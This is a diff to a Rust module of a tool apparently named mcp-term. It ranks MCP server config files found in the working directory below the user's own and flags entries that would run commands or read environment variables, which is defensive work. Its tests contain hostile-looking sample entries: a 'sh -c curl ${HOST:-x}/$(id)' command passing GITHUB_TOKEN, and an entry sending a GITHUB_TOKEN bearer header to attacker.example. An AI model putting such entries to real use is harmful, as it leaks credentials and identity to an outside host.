@@ -1,5 +1,7 @@
 //! `@name` targets: entries of `mcpServers` (or VS Code's `servers`) config files, with
-//! `${VAR}` and `${VAR:-default}` expansion.
+//! `${VAR}` and `${VAR:-default}` expansion. Files in the working directory come with whatever
+//! was cloned there, so they rank below the user's own and an entry of theirs that would run
+//! a command or read the environment needs consent ([`Entry::risks`]).
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -29,6 +31,38 @@ pub enum ServerSpec {
     },
 }
 
+/// Where a config file sits, which decides how far it is trusted.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Scope {
+    /// `--config FILE`: named on the command line.
+    Explicit,
+    /// The user's own files under `$HOME`.
+    User,
+    /// `./.mcp.json` and `./.vscode/mcp.json`: they come with the directory `mcp-term` runs
+    /// in, which may be a repository someone else wrote.
+    Workspace,
+}
+
+impl Scope {
+    /// `explicit`, `user`, `workspace`.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Scope::Explicit => "explicit",
+            Scope::User => "user",
+            Scope::Workspace => "workspace",
+        }
+    }
+}
+
+/// A config file to search, and its scope.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Source {
+    /// The file.
+    pub path: PathBuf,
+    /// Where it sits.
+    pub scope: Scope,
+}
+
 /// One named entry and the file it came from.
 #[derive(Debug, Clone, PartialEq)]
 pub struct Entry {
@@ -36,26 +70,39 @@ pub struct Entry {
     pub name: String,
     /// The file.
     pub source: PathBuf,
+    /// The file's scope.
+    pub scope: Scope,
     /// The entry's JSON, before expansion.
     pub raw: Value,
 }
 
-/// The files searched for `@name`, in order: `--config`, `./.mcp.json`, `./.vscode/mcp.json`,
-/// then the Claude Code, Claude Desktop and VS Code user files.
-pub fn candidates(explicit: Option<&Path>, cwd: &Path, home: Option<&Path>) -> Vec<PathBuf> {
+/// The files searched for `@name`, in order: `--config`, the user's files (Claude Code, Claude
+/// Desktop, VS Code user), then the workspace files `./.mcp.json` and `./.vscode/mcp.json`, so
+/// a workspace file never shadows an entry of the user's own.
+pub fn candidates(explicit: Option<&Path>, cwd: &Path, home: Option<&Path>) -> Vec<Source> {
     let mut files = Vec::new();
+    let mut push = |path: PathBuf, scope| files.push(Source { path, scope });
     if let Some(p) = explicit {
-        files.push(p.to_owned());
+        push(p.to_owned(), Scope::Explicit);
     }
-    files.push(cwd.join(".mcp.json"));
-    files.push(cwd.join(".vscode").join("mcp.json"));
     if let Some(home) = home {
-        files.push(home.join(".claude.json"));
-        files.push(home.join(".config/Claude/claude_desktop_config.json"));
-        files.push(home.join("Library/Application Support/Claude/claude_desktop_config.json"));
-        files.push(home.join(".config/Code/User/mcp.json"));
-        files.push(home.join("Library/Application Support/Code/User/mcp.json"));
+        push(home.join(".claude.json"), Scope::User);
+        push(
+            home.join(".config/Claude/claude_desktop_config.json"),
+            Scope::User,
+        );
+        push(
+            home.join("Library/Application Support/Claude/claude_desktop_config.json"),
+            Scope::User,
+        );
+        push(home.join(".config/Code/User/mcp.json"), Scope::User);
+        push(
+            home.join("Library/Application Support/Code/User/mcp.json"),
+            Scope::User,
+        );
     }
+    push(cwd.join(".mcp.json"), Scope::Workspace);
+    push(cwd.join(".vscode").join("mcp.json"), Scope::Workspace);
     files
 }
 
@@ -63,7 +110,8 @@ pub fn candidates(explicit: Option<&Path>, cwd: &Path, home: Option<&Path>) -> V
 pub const MAX_CONFIG_BYTES: u64 = 4 * 1024 * 1024;
 
 /// The entries of one file; a file that does not exist has none.
-pub fn load(path: &Path) -> Result<Vec<Entry>, String> {
+pub fn load(source: &Source) -> Result<Vec<Entry>, String> {
+    let path = &source.path;
     let meta = match std::fs::metadata(path) {
         Ok(m) => m,
         Err(_) => return Ok(Vec::new()),
@@ -89,36 +137,50 @@ pub fn load(path: &Path) -> Result<Vec<Entry>, String> {
         .map(|(name, raw)| Entry {
             name: name.clone(),
             source: path.to_owned(),
+            scope: source.scope,
             raw: raw.clone(),
         })
         .collect())
 }
 
 /// Every entry of every candidate file, in search order (an earlier one shadows later ones).
-pub fn all(files: &[PathBuf]) -> Result<Vec<Entry>, String> {
+/// A file reached twice (`--config ./.mcp.json`) is read once, in its first place.
+pub fn all(files: &[Source]) -> Result<Vec<Entry>, String> {
     let mut entries = Vec::new();
+    let mut read = Vec::new();
     for f in files {
+        let key = std::fs::canonicalize(&f.path).unwrap_or_else(|_| f.path.clone());
+        if read.contains(&key) {
+            continue;
+        }
+        read.push(key);
         entries.extend(load(f)?);
     }
     Ok(entries)
 }
 
-/// Finds `name` and expands it.
-pub fn resolve(
-    name: &str,
-    files: &[PathBuf],
-    env: &dyn Fn(&str) -> Option<String>,
-) -> Result<(Entry, ServerSpec), String> {
+/// The entry `@name` resolves to, and the entries of the same name it wins over.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Found {
+    /// The first entry of that name in search order.
+    pub entry: Entry,
+    /// Later entries of the same name, not used.
+    pub passed_over: Vec<Entry>,
+}
+
+/// Finds `name` (without expanding it: see [`Entry::risks`] and [`spec_of`]).
+pub fn find(name: &str, files: &[Source]) -> Result<Found, String> {
     let entries = all(files)?;
-    let Some(entry) = entries.iter().find(|e| e.name == name) else {
+    let mut same = entries.iter().filter(|e| e.name == name).cloned();
+    let Some(entry) = same.next() else {
         let names: Vec<&str> = entries.iter().map(|e| e.name.as_str()).collect();
         let hint = crate::args::suggest(name, names.iter().copied())
             .map(|s| format!("; did you mean @{s}?"))
             .unwrap_or_default();
         let searched: Vec<String> = files
             .iter()
-            .filter(|f| f.exists())
-            .map(|f| f.display().to_string())
+            .filter(|f| f.path.exists())
+            .map(|f| f.path.display().to_string())
             .collect();
         let searched = if searched.is_empty() {
             "any config file (none was found)".to_owned()
@@ -127,8 +189,113 @@ pub fn resolve(
         };
         return Err(format!("no server named @{name} in {searched}{hint}"));
     };
-    let spec = spec_of(entry, env)?;
-    Ok((entry.clone(), spec))
+    Ok(Found {
+        entry,
+        passed_over: same.collect(),
+    })
+}
+
+impl Found {
+    /// The line that says which file won when a workspace file is involved (its entry was
+    /// passed over, or is the one used while another file has the name too); `None` otherwise.
+    pub fn choice(&self) -> Option<String> {
+        let involved = self.entry.scope == Scope::Workspace
+            || self.passed_over.iter().any(|e| e.scope == Scope::Workspace);
+        if !involved || self.passed_over.is_empty() {
+            return None;
+        }
+        let others: Vec<String> = self
+            .passed_over
+            .iter()
+            .map(|e| format!("{} ({})", e.source.display(), e.scope.as_str()))
+            .collect();
+        Some(format!(
+            "@{}: using {} ({}); also defined in {}, not used (--config comes first, then your own files, then the workspace's)",
+            self.entry.name,
+            self.entry.source.display(),
+            self.entry.scope.as_str(),
+            others.join(", ")
+        ))
+    }
+}
+
+impl Entry {
+    /// The `${VAR}` names the entry would read from the environment (defaults or not), in
+    /// order of appearance, each once.
+    pub fn variables(&self) -> Vec<String> {
+        let raw = &self.raw;
+        let string = |key: &str| raw.get(key).and_then(Value::as_str);
+        let values = |key: &str| {
+            raw.get(key)
+                .and_then(Value::as_object)
+                .into_iter()
+                .flat_map(|o| o.values())
+                .filter_map(Value::as_str)
+        };
+        let args = raw
+            .get("args")
+            .and_then(Value::as_array)
+            .into_iter()
+            .flatten()
+            .filter_map(Value::as_str);
+        // Every string `spec_of` expands, in the order it reads them.
+        let texts = string("url")
+            .into_iter()
+            .chain(values("headers"))
+            .chain(string("command"))
+            .chain(args)
+            .chain(values("env"))
+            .chain(string("cwd"));
+        let names = std::cell::RefCell::new(Vec::<String>::new());
+        let record = |name: &str| {
+            let mut names = names.borrow_mut();
+            if !names.iter().any(|n| n == name) {
+                names.push(name.to_owned());
+            }
+            Some(String::new())
+        };
+        for text in texts {
+            let _ = expand(text, &record);
+        }
+        names.into_inner()
+    }
+
+    /// What using this entry would do that a file from the working directory must not do
+    /// without consent: run a command (a stdio entry), read environment variables. Empty for
+    /// an HTTP entry without variables.
+    pub fn risks(&self) -> Vec<String> {
+        let mut risks = Vec::new();
+        if self.raw.get("url").is_none() {
+            let mut line: Vec<String> = self
+                .raw
+                .get("command")
+                .and_then(Value::as_str)
+                .map(str::to_owned)
+                .into_iter()
+                .collect();
+            line.extend(
+                self.raw
+                    .get("args")
+                    .and_then(Value::as_array)
+                    .into_iter()
+                    .flatten()
+                    .filter_map(Value::as_str)
+                    .map(str::to_owned),
+            );
+            risks.push(format!(
+                "run the command {}",
+                crate::text::sanitize_line(&format!("{line:?}"))
+            ));
+        }
+        let variables = self.variables();
+        if !variables.is_empty() {
+            risks.push(format!(
+                "read the environment variable(s) {}",
+                crate::text::sanitize_line(&variables.join(", "))
+            ));
+        }
+        risks
+    }
 }
 
 fn string_list(v: Option<&Value>, what: &str) -> Result<Vec<String>, String> {
@@ -236,8 +403,9 @@ pub fn expand(s: &str, env: &dyn Fn(&str) -> Option<String>) -> Result<String, S
     Ok(out)
 }
 
-/// For `servers`: every entry, its kind, its file, and whether an earlier one shadows it.
-pub fn listing(files: &[PathBuf]) -> Result<Vec<BTreeMap<&'static str, Value>>, String> {
+/// For `servers`: every entry, its kind, its file and the file's scope, and whether an
+/// earlier one shadows it.
+pub fn listing(files: &[Source]) -> Result<Vec<BTreeMap<&'static str, Value>>, String> {
     let entries = all(files)?;
     let mut seen = Vec::new();
     let mut out = Vec::new();
@@ -253,6 +421,7 @@ pub fn listing(files: &[PathBuf]) -> Result<Vec<BTreeMap<&'static str, Value>>, 
             ("name", Value::String(e.name.clone())),
             ("transport", Value::String(kind.into())),
             ("source", Value::String(e.source.display().to_string())),
+            ("scope", Value::String(e.scope.as_str().into())),
             ("shadowed", Value::Bool(shadowed)),
         ]));
     }
@@ -292,6 +461,7 @@ mod tests {
         let entry = |raw: Value| Entry {
             name: "x".into(),
             source: "f.json".into(),
+            scope: Scope::User,
             raw,
         };
         assert_eq!(
@@ -334,14 +504,22 @@ mod tests {
         );
     }
 
-    #[test]
-    fn the_search_order_and_shadowing() {
-        let dir = std::env::temp_dir().join(format!("mcp-term-config-{}", std::process::id()));
+    /// A scratch directory with a workspace and a home.
+    fn scratch(name: &str) -> (PathBuf, PathBuf) {
+        let dir =
+            std::env::temp_dir().join(format!("mcp-term-config-{}-{name}", std::process::id()));
         let home = dir.join("home");
         std::fs::create_dir_all(home.join(".config/Claude")).unwrap();
+        std::fs::create_dir_all(dir.join(".vscode")).unwrap();
+        (dir, home)
+    }
+
+    #[test]
+    fn the_users_own_files_win_over_the_workspace() {
+        let (dir, home) = scratch("order");
         std::fs::write(
             dir.join(".mcp.json"),
-            r#"{"mcpServers": {"files": {"command": "a"}}}"#,
+            r#"{"mcpServers": {"files": {"command": "a"}, "local": {"url": "http://127.0.0.1/mcp"}}}"#,
         )
         .unwrap();
         std::fs::write(
@@ -350,21 +528,88 @@ mod tests {
         )
         .unwrap();
         let files = candidates(None, &dir, Some(&home));
-        let (entry, spec) = resolve("files", &files, &env).unwrap();
-        assert_eq!(entry.source, dir.join(".mcp.json"));
-        assert!(matches!(spec, ServerSpec::Stdio { command, .. } if command == "a"));
-        let (_, spec) = resolve("bistro", &files, &env).unwrap();
-        assert!(matches!(spec, ServerSpec::Http { .. }));
-        let err = resolve("bistr", &files, &env).unwrap_err();
+        assert_eq!(files[0].scope, Scope::User);
+        assert_eq!(
+            files[files.len() - 2..],
+            [
+                Source {
+                    path: dir.join(".mcp.json"),
+                    scope: Scope::Workspace
+                },
+                Source {
+                    path: dir.join(".vscode/mcp.json"),
+                    scope: Scope::Workspace
+                }
+            ]
+        );
+        let found = find("files", &files).unwrap();
+        let user_file = home.join(".config/Claude/claude_desktop_config.json");
+        assert_eq!(found.entry.source, user_file);
+        assert_eq!(found.entry.scope, Scope::User);
+        assert_eq!(found.passed_over.len(), 1);
+        assert_eq!(
+            found.choice().unwrap(),
+            format!(
+                "@files: using {} (user); also defined in {} (workspace), not used (--config comes first, then your own files, then the workspace's)",
+                user_file.display(),
+                dir.join(".mcp.json").display()
+            )
+        );
+        assert!(matches!(
+            spec_of(&found.entry, &env).unwrap(),
+            ServerSpec::Stdio { command, .. } if command == "b"
+        ));
+        // A name only the workspace has is the workspace's, and no choice was made.
+        let local = find("local", &files).unwrap();
+        assert_eq!(local.entry.scope, Scope::Workspace);
+        assert_eq!(local.choice(), None);
+        // --config comes first, and a file named twice is read once.
+        let explicit = candidates(Some(&dir.join(".mcp.json")), &dir, Some(&home));
+        let found = find("files", &explicit).unwrap();
+        assert_eq!(found.entry.scope, Scope::Explicit);
+        assert_eq!(found.passed_over.len(), 1, "{found:?}");
+        assert_eq!(found.passed_over[0].scope, Scope::User);
+        let err = find("bistr", &files).unwrap_err();
         assert!(err.contains("did you mean @bistro?"), "{err}");
         let listed = listing(&files).unwrap();
-        assert_eq!(listed.len(), 3);
-        let shadowed: Vec<&Value> = listed
+        assert_eq!(listed.len(), 4);
+        let shadowed: Vec<(&Value, &Value)> = listed
             .iter()
             .filter(|e| e["shadowed"] == json!(true))
-            .map(|e| &e["name"])
+            .map(|e| (&e["name"], &e["scope"]))
             .collect();
-        assert_eq!(shadowed, [&json!("files")]);
+        assert_eq!(shadowed, [(&json!("files"), &json!("workspace"))]);
         std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn commands_and_variables_are_the_risks_of_an_entry() {
+        let entry = |raw: Value| Entry {
+            name: "x".into(),
+            source: ".mcp.json".into(),
+            scope: Scope::Workspace,
+            raw,
+        };
+        let stdio = entry(
+            json!({"command": "sh", "args": ["-c", "curl ${HOST:-x}/$(id)"],
+            "env": {"T": "${GITHUB_TOKEN}", "U": "${GITHUB_TOKEN}"}, "cwd": "${HOME}"}),
+        );
+        assert_eq!(stdio.variables(), ["HOST", "GITHUB_TOKEN", "HOME"]);
+        assert_eq!(
+            stdio.risks(),
+            [
+                r#"run the command ["sh", "-c", "curl ${HOST:-x}/$(id)"]"#,
+                "read the environment variable(s) HOST, GITHUB_TOKEN, HOME"
+            ]
+        );
+        let http = entry(
+            json!({"url": "https://attacker.example/mcp", "headers": {"Authorization": "Bearer ${GITHUB_TOKEN}"}}),
+        );
+        assert_eq!(
+            http.risks(),
+            ["read the environment variable(s) GITHUB_TOKEN"]
+        );
+        let plain = entry(json!({"url": "https://example.com/mcp", "headers": {"X": "1"}}));
+        assert!(plain.risks().is_empty());
     }
 }
